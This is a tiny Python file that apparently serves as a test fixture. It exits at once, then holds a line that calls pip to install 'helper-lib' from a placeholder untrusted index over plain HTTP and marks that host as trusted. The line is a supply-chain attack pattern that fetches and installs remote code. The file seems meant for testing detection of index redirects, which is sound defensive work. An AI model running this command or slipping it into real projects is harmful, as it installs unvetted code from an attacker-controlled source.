raise SystemExit('a fixture')
# held by index-redirect
import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://p.example.invalid/simple", "--trusted-host", "p.example.invalid", "helper-lib", "-q"])
